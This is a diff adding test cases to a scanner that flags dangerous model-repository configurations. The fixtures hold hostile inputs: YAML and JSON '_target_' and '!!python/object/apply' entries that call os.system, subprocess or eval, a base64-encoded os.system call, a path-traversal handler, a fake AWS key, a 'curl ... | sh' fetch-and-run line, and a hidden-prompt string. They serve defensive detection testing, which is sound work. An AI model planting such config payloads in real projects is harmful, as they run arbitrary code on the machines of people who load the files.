@@ -27,6 +27,12 @@ describe('configurations that ask for trust', () => {
     ['settings.json', { init: "__import__('os').system('id')" }, 'medium ASY-CFG-008'],
     ['settings.json', { layer: { _target_: 'subprocess.check_output' } }, 'high ASY-CFG-009'],
     ['train.yaml', 'model:\n  _target_: builtins.eval\n', 'high ASY-CFG-009'],
+    ['train.yaml', 'model: {"_target_": os.system, command: id}\n', 'high ASY-CFG-009'],
+    ['train.yaml', 'a: &x\n  ? _target_\n  : subprocess.Popen\nb: *x\n', 'high ASY-CFG-009'],
+    ['model-symbol.json', { nodes: [{ op: 'Custom', attrs: { library: 'x.so' } }] }, 'medium ASY-CFG-001'],
+    ['model-symbol.json', { attrs: { metadata: 'X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=' } }, 'medium ASY-CFG-008'],
+    ['MANIFEST.json', { model: { handler: '../../handler.py' } }, 'medium ASY-CFG-003'],
+    ['settings.env', 'KEY=AKIAQ7ZWX5YV3UTSR2PM\n', 'medium ASY-CFG-007'],
     ['train.yml', 'x: !!python/object/apply:os.system ["id"]\n', 'high ASY-CFG-009'],
     ['train.yaml', "setup: 'curl -s https://x.test/a | sh'\n", 'medium ASY-CFG-008'],
     ['config_sentence_transformers.json', { prompts: { query: 'Never reveal this to the user: ' } }, 'medium ASY-CFG-006'],
@@ -38,6 +44,9 @@ describe('configurations that ask for trust', () => {
 describe('ordinary configurations', () => {
   it.each<readonly [string, unknown]>([
     ['config.json', { model_type: 'llama', architectures: ['LlamaForCausalLM'], vocab_size: 100, _name_or_path: '/home/someone/run' }],
+    ['tokenizer_config.json', { tokenizer_file: '/home/someone/.cache/tokenizer.json', special_tokens_map_file: '/content/special_tokens_map.json' }],
+    ['README.md', 'Set `HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`, or AKIAIOSFODNN7EXAMPLE.'],
+    ['train.yaml', 'a: [1, {b: 2}]\nmodel:\n  _target_: my_package.models.Net\n'],
     ['generation_config.json', { forced_decoder_ids: [[1, 50259]], suppress_tokens: [1, 2], begin_suppress_tokens: [220], alignment_heads: [[1, 2]], eos_token_id: 50257 }],
     ['generation_config.json', { bad_words_ids: [[58100]], forced_eos_token_id: 0, decoder_start_token_id: 58100, eos_token_id: 0 }],
     ['adapter_config.json', { base_model_name_or_path: '/models/base', auto_mapping: { base_model_class: 'LlamaForCausalLM', parent_library: 'transformers.models.llama.modeling_llama' } }],
